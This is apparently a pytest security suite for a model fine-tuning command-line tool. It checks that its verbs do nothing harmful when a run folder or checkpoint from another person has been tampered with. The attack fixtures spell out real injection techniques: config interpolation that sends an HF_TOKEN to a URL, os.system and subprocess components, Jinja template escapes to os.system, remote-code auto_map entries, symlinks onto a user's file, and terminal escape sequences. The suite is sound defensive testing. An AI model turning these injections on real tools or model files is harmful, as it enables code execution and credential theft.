"""A run folder, a checkpoint, an adapter or an artifact of another person: no verb runs its code, reads the environment
for it, opens its addresses, writes through its links or shows its control sequences."""

import io
import json
import os
import shutil
import threading
from argparse import Namespace
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import lora_finetune
import pytest
import yaml
from helpers import slow_but, weekly_but
from omegaconf import OmegaConf

from tune import config
from tune.cli import main
from tune.cli.chat import Reply
from tune.cli.generate import write
from tune.cli.verify import data_of_run
from tune.errors import TuneError
from tune.lookup import locate
from tune.peft import open_model
from tune.run_settings import COMPONENTS, escaped, leaves, read_settings
from tune.terminal import all_visible, visible

TOKEN = "hf_" + "Ab1" * 12
ESCAPE = "\x1b]0;owned\x07\x1b[31m"


@pytest.fixture(scope="module")
def trained(checkpoint: Path, chats: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run with checkpoints, and its base."""
    folder = tmp_path_factory.mktemp("strangers")
    shutil.copytree(checkpoint, folder / "base")
    settings = [
        f"model.path={folder / 'base'}", f"dataset.path={chats}", f"output_dir={folder / 'run'}", "device=cpu",
        "compute.dtype=fp32", "global_batch_size=4", "max_seq_len=128", "max_steps=3", "checkpointer.every=2",
    ]  # fmt: skip
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.argv", ["lora_finetune", *settings])
        lora_finetune.main()
    return folder


@pytest.fixture(scope="module")
def server() -> Iterator[SimpleNamespace]:
    """A server that records the paths that it is asked for."""
    asked = list[str]()

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"messages": [{"role": "user", "content": "a"}]}\n')

        do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    yield SimpleNamespace(asked=asked, url=f"http://127.0.0.1:{http.server_port}")
    http.shutdown()


class Stranger:
    """A copy of the run that another person has changed. `mark` is a file that its code would write."""

    def __init__(self, folder: Path, url: str):
        self.folder, self.url, self.mark, self.run = folder, url, folder / "mark", folder / "run"
        self.base, self.code = folder / "base", f"open({str(folder / 'mark')!r}, 'w').close()\n"
        self.set("model.path", str(self.base))
        self.set("tokenizer.path", str(self.base))
        file = self.run / "adapter" / "adapter_config.json"
        self.edit(file, base_model_name_or_path=str(self.base))

    def set(self, key: str, value: Any) -> None:
        """Change a setting in config.yaml."""
        values = group = yaml.safe_load((self.run / "config.yaml").read_text())
        *names, last = key.split(".")
        for name in names:
            group = group[name]
        group[last] = value
        (self.run / "config.yaml").write_text(yaml.safe_dump(values))

    def edit(self, file: Path, **changes: Any) -> None:
        file.write_text(json.dumps(json.loads(file.read_text()) | changes))

    def touches(self) -> dict[str, str]:
        return {"command": f"touch {self.mark}"}


@pytest.fixture
def stranger(trained: Path, server: SimpleNamespace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stranger:
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    monkeypatch.chdir(tmp_path)
    server.asked.clear()
    return Stranger(shutil.copytree(trained, tmp_path / "theirs"), server.url)


def interpolation(theirs: Stranger) -> None:
    theirs.set("dataset.path", theirs.url + "/${oc.env:HF_TOKEN}/rows.jsonl")


def interpolated_tokenizer(theirs: Stranger) -> None:
    theirs.set("tokenizer.chat_template", theirs.url + "/${oc.env:HF_TOKEN}")


def address(theirs: Stranger) -> None:
    theirs.set("dataset.path", f"{theirs.url}/rows.jsonl")


def template_of_references(theirs: Stranger) -> None:
    expression = f"{{{{ cycler.__init__.__globals__.os.system('touch {theirs.mark}') }}}}"
    content = {"version": 1, "templates": {"x": expression}, "refs": {"a.jsonl": ["{{x}}"], "b": [theirs.url, 0, 1]}}
    (theirs.run / "refs.json").write_text(json.dumps(content))
    theirs.set("dataset.path", f"reference://a.jsonl::file://{theirs.run / 'refs.json'}")


def component(theirs: Stranger) -> None:
    theirs.set("tokenizer", {"_component_": "os.system", **theirs.touches()})


def component_of_another_module(theirs: Stranger) -> None:
    theirs.set("tokenizer", {"_component_": "tune.cli.chat.os.system", **theirs.touches()})


def component_of_data(theirs: Stranger) -> None:
    theirs.set("dataset", {"_component_": "subprocess.check_call", "path": "x", "args": ["touch", str(theirs.mark)]})


def code_in_the_folder(theirs: Stranger) -> None:
    (theirs.folder / "evil.py").write_text(theirs.code + "def build(**settings): ...\n")
    theirs.set("model._component_", "evil.build")
    theirs.set("dataset.format", "evil.build")
    shutil.copy(theirs.folder / "evil.py", "evil.py")


def path_of_a_function(theirs: Stranger) -> None:
    (theirs.folder / "evil.py").write_text(theirs.code + "def rows(): yield {'text': 'a'}\n")
    theirs.set("dataset.path", "python:evil.rows")
    shutil.copy(theirs.folder / "evil.py", "evil.py")


def tracker(theirs: Stranger) -> None:
    theirs.set("trackers", [{"_component_": "os.system", **theirs.touches()}])


def recipe(theirs: Stranger) -> None:
    (theirs.run / "recipe.py").write_text(theirs.code)
    theirs.edit(theirs.run / "run.json", recipe=str(theirs.run / "recipe.py"))


def tasks(theirs: Stranger) -> None:
    pytest.importorskip("lm_eval")
    folder = theirs.run / "tasks"
    folder.mkdir()
    (folder / "evil.py").write_text(theirs.code + "def rows(): ...\n")
    (folder / "evil.yaml").write_text("task: evil\ndataset_path: json\nprocess_docs: !function evil.rows\n")
    theirs.set("evaluate.include_path", str(folder))
    theirs.set("evaluate.tasks", ["evil"])


def remote_code(theirs: Stranger) -> None:
    """Name code of the checkpoint in all of its files, and ask for it in the settings."""
    for folder in (theirs.base, theirs.run / "adapter"):
        (folder / "evil.py").write_text(theirs.code)
        if (folder / "config.json").exists():
            auto = {"AutoConfig": "evil.Config", "AutoModelForCausalLM": "evil.Model"}
            theirs.edit(folder / "config.json", auto_map=auto, model_type="evil")
        if (folder / "tokenizer_config.json").exists():
            auto_tokenizer = {"AutoTokenizer": ["evil.Tokenizer", None]}
            theirs.edit(folder / "tokenizer_config.json", auto_map=auto_tokenizer, tokenizer_class="Evil")
    theirs.set("model", {"_component_": "tune.models.hf", "path": str(theirs.base), "trust_remote_code": True})


def template(theirs: Stranger) -> None:
    text = f"{{{{ cycler.__init__.__globals__.os.system('touch {theirs.mark}') }}}}"
    for file in theirs.folder.rglob("chat_template.jinja"):
        file.write_text(text)
    for file in theirs.folder.rglob("tokenizer_config.json"):
        theirs.edit(file, chat_template=text)


def links(theirs: Stranger) -> None:
    """Link each file that a verb writes into the folder to a file of the user."""
    for name in ("device.json", "report.html", ".lock"):
        (theirs.run / name).unlink(missing_ok=True)
        (theirs.run / name).symlink_to(theirs.folder.parent / "precious")


def linked_files(theirs: Stranger) -> None:
    """Link files that exports and uploads contain to a file of the user."""
    for folder in (theirs.base, theirs.run / "adapter"):
        for name in ("notes.txt", "added_tokens.json"):
            (folder / name).symlink_to(theirs.folder.parent / "precious")
    (theirs.base / "generation_config.json").unlink()
    (theirs.base / "generation_config.json").symlink_to(theirs.folder.parent / "precious")


def template_of_another_file(theirs: Stranger) -> None:
    theirs.set("tokenizer.chat_template", str(theirs.folder.parent / "precious"))


def module_of_peft(theirs: Stranger) -> None:
    Path("evil.py").write_text(theirs.code)
    file = theirs.run / "adapter" / "adapter_config.json"
    theirs.edit(file, megatron_config={"a": 1}, megatron_core="evil")


def controls(theirs: Stranger) -> None:
    """Put control sequences into all texts of the run folder."""
    theirs.set("seed", f"{ESCAPE}seed")
    theirs.set("dataset.path", f"nowhere{ESCAPE}")
    theirs.edit(theirs.run / "run.json", recipe=f"full{ESCAPE}", error=f"error{ESCAPE}", state=f"failed{ESCAPE}")
    theirs.edit(theirs.run / "data.json", warnings=[f"rows{ESCAPE}"], dropped={f"why{ESCAPE}": 3}, source=ESCAPE)
    metrics = theirs.run / "metrics.jsonl"
    lines = [json.loads(line) | {f"loss{ESCAPE}": 1.0} for line in metrics.read_text().splitlines()]
    metrics.write_text("".join(json.dumps(line) + "\n" for line in lines))
    (theirs.run / "log.txt").write_text(f"warning: log{ESCAPE}\n")
    (theirs.run / "first_row.txt").write_text(f"row{ESCAPE}\n")
    texts = [{"step": step, "row": {"prompt": f"q{ESCAPE}"}, "text": f"a{ESCAPE}"} for step in (0, 3)]
    (theirs.run / "samples.jsonl").write_text("".join(json.dumps(each) + "\n" for each in texts))
    theirs.edit(theirs.base / "config.json", architectures=[f"Arch{ESCAPE}"])
    theirs.run = theirs.run.rename(theirs.run.with_name(f"run{ESCAPE.replace('/', '')}"))


ATTACKS: list[Callable[[Stranger], None]] = [
    interpolation, interpolated_tokenizer, address, template_of_references, component, component_of_another_module,
    component_of_data, code_in_the_folder, path_of_a_function, tracker, recipe, tasks, remote_code, template, links,
    linked_files, template_of_another_file, module_of_peft, controls,
]  # fmt: skip

STEP = ["--step", "2"]
SHORT = ["--limit", "2", "--tokens", "20"]
ONE = ["--prompt", "the cat", "--max-new-tokens", "2", "--device", "cpu"]

# Verbs that read what another person made. RUN, ADAPTER, BASE and CONFIG stand for its parts, OUT for a new path.
VERBS: dict[str, list[str]] = {
    "verify": ["verify", "ADAPTER", "--against", "RUN", *SHORT],
    "verify a model": ["verify", "BASE", "--against", "RUN", *SHORT],
    "verify --step": ["verify", "ADAPTER", "--against", "RUN", *STEP, *SHORT],
    "plan --calibrate": ["plan", "--calibrate", "RUN", "--device", "cpu"],
    "runs": ["runs", "FOLDER"],
    "runs --json": ["runs", "FOLDER", "--json"],
    "watch": ["watch", "RUN"],
    "report": ["report", "RUN"],
    "diff": ["diff", "RUN", "OTHER"],
    "checkpoints": ["checkpoints", "RUN", "--verify"],
    "generate": ["generate", "RUN", *ONE],
    "generate --step": ["generate", "RUN", *STEP, *ONE],
    "chat": ["chat", "RUN", "--max-new-tokens", "2", "--device", "cpu"],
    "eval": ["eval", "RUN", "--data", "ROWS", "device=cpu"],
    "eval --step": ["eval", "RUN", *STEP, "--data", "ROWS", "device=cpu"],
    "export": ["export", "RUN", "--to", "hf", "--out", "OUT"],
    "export --step": ["export", "RUN", *STEP, "--to", "hf", "--out", "OUT"],
    "export gguf": ["export", "RUN", "--to", "gguf", "--out", "OUT"],
    "merge": ["merge", "BASE", "ADAPTER", "OUT"],
    "merge --method average": ["merge", "RUN", "OUT", "--method", "average"],
    "quantize": ["quantize", "RUN", "--to", "int8", "--out", "OUT"],
    "add-tokens": ["add-tokens", "BASE", "OUT", "<|new|>"],
    "push": ["push", "RUN", "me/theirs"],
    "prepare": ["prepare", "lora_finetune", "model.path=BASE", "dataset.path=ROWS"],
    "preview": ["preview", "lora_finetune", "model.path=BASE", "dataset.path=ROWS"],
    "validate": ["validate", "lora_finetune", "model.path=BASE", "dataset.path=ROWS"],
    "validate, resume": ["validate", "lora_finetune", "model.path=BASE", "dataset.path=ROWS", "resume=RUN"],
    "plan": ["plan", "lora_finetune", "model.path=BASE", "--device", "cpu"],
}
DIFFERENT = ("verify a model", "verify --step", "validate, resume")  # the base is not the result, nor is step 2
QUICK = {
    ("verify", interpolation), ("verify", address), ("verify", template_of_references),
    ("verify --step", interpolated_tokenizer), ("plan --calibrate", component), ("watch", controls), ("runs", controls),
    ("diff", controls), ("verify a model", remote_code),
}  # fmt: skip


def attempted(theirs: Stranger, words: list[str], chats: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    """Run a verb, which may end with any message. Returns its exit code."""
    places = {
        "RUN": theirs.run, "ADAPTER": theirs.run / "adapter", "BASE": theirs.base, "OUT": Path("out"), "ROWS": chats,
        "FOLDER": theirs.folder, "OTHER": theirs.folder / "other", "CONFIG": theirs.run / "config.yaml",
    }  # fmt: skip
    if "OTHER" in words:
        shutil.copytree(theirs.run, theirs.folder / "other")
        (theirs.folder / "other" / "config.yaml").write_text("seed: 1\n")
    answers = iter(["the cat", "/exit"])
    monkeypatch.setattr("builtins.input", lambda *_: next(answers))
    arguments = []
    for word in words:
        key, equals, value = word.rpartition("=")
        arguments.append(f"{key}{equals}{places.get(value, value)}")
    try:
        main(arguments)
    except SystemExit as end:
        return int(end.code or 0)
    return 0


@pytest.mark.parametrize(
    ("verb", "attack"), weekly_but(QUICK, [(verb, attack) for verb in VERBS for attack in ATTACKS])
)
def test_what_a_stranger_names_does_nothing(
    verb: str, attack: Callable[[Stranger], None], stranger: Stranger, server: SimpleNamespace, chats: Path,
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    sent = list[Path]()
    monkeypatch.setattr(
        "huggingface_hub.HfApi.create_repo", lambda *_, **__: SimpleNamespace(repo_id="me/theirs"), raising=True
    )
    monkeypatch.setattr(
        "huggingface_hub.HfApi.upload_folder",
        lambda *_, folder_path, allow_patterns, **__: sent.extend(Path(folder_path, each) for each in allow_patterns),
    )
    precious = stranger.folder.parent / "precious"
    precious.write_text('{"my": "secret file"}')
    attack(stranger)
    capfd.readouterr()
    attempted(stranger, VERBS[verb], chats, monkeypatch)
    printed = capfd.readouterr()
    assert server.asked == []
    assert not stranger.mark.exists()
    assert precious.read_text() == '{"my": "secret file"}'
    assert "secret file" not in "".join(file.read_text(errors="replace") for file in Path("out").rglob("*.*"))
    for text in (printed.out, printed.err):
        assert TOKEN not in text
        assert "\x1b" not in text and "\x07" not in text
    assert TOKEN not in "".join(file.read_text(errors="replace") for file in stranger.run.glob("*.html"))
    assert all("secret file" not in file.read_text(errors="replace") for file in sent)


@pytest.mark.parametrize("verb", slow_but({"verify", "watch", "export --step"}, VERBS))
def test_verbs_work_with_an_unchanged_folder(
    verb: str, stranger: Stranger, chats: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They read what the attacks change."""
    monkeypatch.setattr("huggingface_hub.HfApi.create_repo", lambda *_, **__: SimpleNamespace(repo_id="me/theirs"))
    monkeypatch.setattr("huggingface_hub.HfApi.upload_folder", lambda *_, **__: None)
    code = attempted(stranger, VERBS[verb], chats, monkeypatch)
    assert code == (1 if verb in DIFFERENT else 0)


def test_refused_settings_are_named(stranger: Stranger, capsys: pytest.CaptureFixture[str]) -> None:
    """Messages have the file and the key; `tune verify` goes on with its own texts."""
    interpolation(stranger)
    for read in (data_of_run, lambda run: open_model(run, step=2)):
        with pytest.raises(TuneError, match=r"config\.yaml: dataset\.path: .*\$\{oc\.env:HF_TOKEN\}"):
            read(stranger.run)
    stranger.set("dataset.path", f"{stranger.url}/rows.jsonl")
    with pytest.raises(TuneError, match=r"config\.yaml: dataset\.path: http://.* is not a file or folder here"):
        data_of_run(stranger.run)
    for path in ("org/name", "python:evil.rows", "memory://a.jsonl", 5):
        stranger.set("dataset.path", path)
        with pytest.raises(TuneError, match=r"config\.yaml: dataset\.path: |no data path"):
            data_of_run(stranger.run)
    component(stranger)
    for words in (["export", "RUN", *STEP, "--to", "hf", "--out", "out"], VERBS["plan --calibrate"]):
        with pytest.raises(SystemExit):
            main([word.replace("RUN", str(stranger.run)) for word in words])
        message = capsys.readouterr().err
        assert "config.yaml: tokenizer._component_" in message and "os.system" in message


@pytest.mark.slow
def test_run_with_own_components_calibrates_if_they_are_named_again(
    stranger: Stranger, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On the command line, or in the YAML of the user's own copy of the recipe."""
    Path("own.py").write_text("from tune.tokenizers import Tokenizer\nclass Mine(Tokenizer):\n    pass\n")
    monkeypatch.syspath_prepend(os.getcwd())
    stranger.set("tokenizer", {"_component_": "own.Mine", "path": str(stranger.base)})
    calibrate = ["plan", "--calibrate", str(stranger.run), "--device", "cpu"]
    with pytest.raises(SystemExit):
        main(calibrate)
    assert "tokenizer._component_" in capsys.readouterr().err
    named = [f"model.path={stranger.base}", "tokenizer._component_=own.Mine"]
    main([*calibrate, "lora_finetune", *named])
    (stranger.run / "device.json").unlink()
    main(["cp", "lora_finetune", "mine.py"])
    settings = Path("mine.yaml").read_text().replace("tune.tokenizers.Tokenizer", "own.Mine")
    Path("mine.yaml").write_text(settings)
    stranger.edit(stranger.run / "run.json", recipe="mine")
    main([*calibrate, "mine.py", named[0]])
    assert (stranger.run / "device.json").exists()


def test_listed_components() -> None:
    """They exist, they are defined in the library that they name, and recipes name them by default."""
    for path in sorted(COMPONENTS):
        if path.startswith("torchao"):
            pytest.importorskip("torchao")
        assert locate(path).__module__.partition(".")[0] == path.partition(".")[0]
    for name in config.list_recipes_with_settings():
        values = dict(leaves(config.read_file(config.find_config(name))))
        assert {value for key, value in values.items() if key.endswith("_component_")} <= COMPONENTS


@pytest.mark.parametrize("text", ["${a}", r"\${a}", r"\\${a}", "a ${b", "$a", "a\\", "$${oc.env:HOME}", "'${x}'"])
def test_texts_with_a_dollar_survive(text: str, tmp_path: Path) -> None:
    """As OmegaConf reads them, and as a run folder is read."""
    assert OmegaConf.create({"a": escaped(text)}).a == text
    OmegaConf.save(OmegaConf.create(escaped({"a": [{"b": text}]})), tmp_path / "config.yaml")
    assert read_settings(tmp_path / "config.yaml") == {"a": [{"b": text}]}


@pytest.mark.parametrize("text", ["${oc.env:HOME}", r"\\${oc.env:HOME}", "a${b}", "x: ${oc.decode:a}", "${${a}}"])
def test_interpolations_are_found_wherever_they_are(text: str, tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(yaml.safe_dump({"a": [{"b": text}]}))
    with pytest.raises(TuneError, match=r"config\.yaml: a\[0\]\.b: "):
        read_settings(tmp_path / "config.yaml")


@pytest.mark.parametrize("is_terminal", [True, False])
def test_answers_are_escaped_in_a_terminal(is_terminal: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file or a program gets them as they are."""
    out = io.StringIO()
    monkeypatch.setattr(out, "isatty", lambda: is_terminal)
    completion: Any = SimpleNamespace(text=f"a{ESCAPE}", finish="stop", tokens=[1])
    options = Namespace(score=None, out=None, keep=None, samples=1)
    write(options, [("", {"prompt": "q"})], [(range(1), [(None, [completion])])], out)
    assert (ESCAPE in out.getvalue()) != is_terminal
    assert (visible(ESCAPE) in out.getvalue()) == is_terminal


def test_answers_are_escaped_in_a_chat(stranger: Stranger, monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    answers = iter(["the cat", "/exit"])
    monkeypatch.setattr("builtins.input", lambda *_: next(answers))
    monkeypatch.setattr(Reply, "__iter__", lambda _: iter([f"a{ESCAPE}"]))
    main(["chat", str(stranger.run), "--max-new-tokens", "2", "--device", "cpu"])
    printed = capsys.readouterr()
    assert visible(ESCAPE) in printed.out and "\x1b" not in printed.out + printed.err


def test_prompts_of_a_preview_are_escaped(
    stranger: Stranger, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "rows.jsonl").write_text(json.dumps({"prompt": f"q{ESCAPE}", "answer": "a"}) + "\n")
    data = [f"model.path={stranger.base}", "dataset.path=rows.jsonl", "reward=own.f"]
    Path("own.py").write_text("def f(row, answer): return 0.0\n")
    main(["preview", "grpo", *data])
    printed = capsys.readouterr().out
    assert visible(ESCAPE) in printed and "\x1b" not in printed


def test_messages_of_a_run_and_errors_are_escaped() -> None:
    assert str(TuneError(f"a\n{ESCAPE}")) == f"a\n{visible(ESCAPE)}"
    assert all_visible({ESCAPE: [ESCAPE, 1, None]}) == {visible(ESCAPE): [visible(ESCAPE), 1, None]}
    assert visible("a\tb\n\r\x9b") == "a\tb\n\\r\\x9b"
